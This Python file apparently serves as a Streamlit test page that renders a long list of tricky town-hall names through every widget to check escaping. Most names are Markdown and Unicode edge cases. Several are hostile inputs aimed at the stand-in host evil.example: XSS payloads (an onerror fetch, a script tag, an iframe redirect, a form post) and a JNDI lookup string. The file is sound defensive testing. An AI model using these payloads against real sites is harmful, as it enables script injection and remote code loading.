"""Names that somebody could give a town hall, and a page that shows them in every way our pages show names.

Streamlit runs this file as a script; the test imports the names from it.
"""

import streamlit as st

from ui.components.markdown import md

AWAY = "http://evil.example"
NAMES = (
    "**bold**",
    "__bold__",
    "*slanted*",
    "_slanted_ name_with_underscores",
    "~~struck~~",
    "~sub~",
    "`code`",
    "```\ncode\n```",
    "# Heading",
    "###### Heading #",
    "Heading\n===",
    "Heading\n---",
    "- item",
    "+ item",
    "* item",
    "1. item",
    "12) item",
    "- [ ] task",
    "> quoted",
    "    indented code",
    "\ttab",
    "---",
    "***",
    "a | b\n--|--\n1 | 2",
    "|a|b|",
    f"![picture]({AWAY}/a.png)",
    f"![picture][1]\n\n[1]: {AWAY}/b.png",
    f"[link]({AWAY})",
    f"[link][1]\n\n[1]: {AWAY}",
    f"<{AWAY}>",
    f"{AWAY}/path?a=b&c=d",
    "https://evil.example/?q=1",
    "HTTPS://EVIL.EXAMPLE",
    "www.evil.example",
    "WWW.evil.example/path",
    "mailto:mayor@evil.example",
    "mayor@evil.example",
    f'<img src="{AWAY}/c.png">',
    f"<img src=x onerror=\"fetch('{AWAY}')\">",
    "<script>alert(1)</script>",
    f"<iframe srcdoc=\"<script>parent.location='{AWAY}'</script>\"></iframe>",
    f"<style>@import url({AWAY}/d.css)</style>",
    f'<form action="{AWAY}"><input></form>',
    "<b>bold</b> <br> <!-- comment -->",
    "&lt;b&gt; &amp; &#42;&#42;x&#42;&#42; &nbsp;",
    "$x^2$ and $$y_1$$",
    "costs $5 to $10",
    "\\(x\\) \\[y\\]",
    "\\alpha \\\\ \\* \\",
    ":red[coloured]",
    ":blue-background[coloured] :green-badge[badge]",
    ":small[little] :rainbow[many]",
    ":help[me] :shimmer[x]",
    ":material/home: :streamlit:",
    ":smile: :+1: :100: :warning:",
    "12:30:45",
    "a -> b <- c <-> d -- e",
    "x >= 1 <= 2 ~= 3 != 4",
    "footnote[^1]\n\n[^1]: text",
    "^up^ ==marked== ||hidden||",
    "line one\nline two\r\nline three",
    "  wide   space  ",
    "周南市役所 本庁舎(2階)「情報政策課」",
    "'single' \"double\" `tick` %percent% {brace} @at #hash",
    "%s {0} {name} ${jndi:ldap://evil.example}",
    "🔥 fire 🏢",
    ":material/bolt: power",
    "😀",
    "a\u200bb\u00a0c",
    "بلدية <b>مدينة</b> עיר (5) [رابط](http://evil.example)",
    "とても長い協定の名前" * 18,
)
ELEMENTS = {
    "markdown": st.markdown,
    "title": lambda text: st.title(text, anchor=False),
    "header": lambda text: st.header(text, anchor=False),
    "subheader": lambda text: st.subheader(text, anchor=False),
    "caption": st.caption,
    "button": st.button,
    "checkbox": st.checkbox,
    "toggle": st.toggle,
    "error": st.error,
    "warning": st.warning,
    "info": st.info,
    "success": st.success,
    "expander": st.expander,
    "popover": st.popover,
    "status": st.status,
    "text_input": st.text_input,
    "number_input": st.number_input,
    "text_area": st.text_area,
    "slider": st.slider,
    "file_uploader": st.file_uploader,
    "metric": lambda text: st.metric(text, text, text),
    "radio": lambda text: st.radio(text, [text], captions=[text]),
    "segmented_control": lambda text: st.segmented_control(text, [text]),
    "pills": lambda text: st.pills(text, [text]),
    "selectbox": lambda text: st.selectbox(text, ["-"]),
    "multiselect": lambda text: st.multiselect(text, ["-"]),
    "tabs": lambda text: st.tabs([text]),
    "table": lambda text: st.table([[text]]),
    "progress": lambda text: st.progress(0.5, text),
    "form": lambda text: st.form(f"form {text}").form_submit_button(text),
    "download_button": lambda text: st.download_button(text, ""),
}
"""How our pages may show a name, each with all that it renders as Markdown."""


WITHIN = {
    "strong": lambda text: st.markdown(f"**{text}**"),
    "badge": lambda text: st.markdown(f":gray-badge[{text}]"),
    "list": lambda text: st.markdown(f"- {text}"),
}
"""How a name may stand within Markdown of ours."""


def main() -> None:
    """Show every name in the ways that the address asks for."""
    everything = "\n\n".join(md(name) for name in NAMES)
    for way in st.query_params.get_all("way"):
        if way == "toast":
            st.toast(everything, duration="infinite")
        elif way == "help":
            st.markdown("x", help=everything)
        else:
            for number, name in enumerate(NAMES):
                with st.container(key=f"{way}-{number}"):
                    {**ELEMENTS, **WITHIN}[way](md(name))


if __name__ == "__main__":
    main()
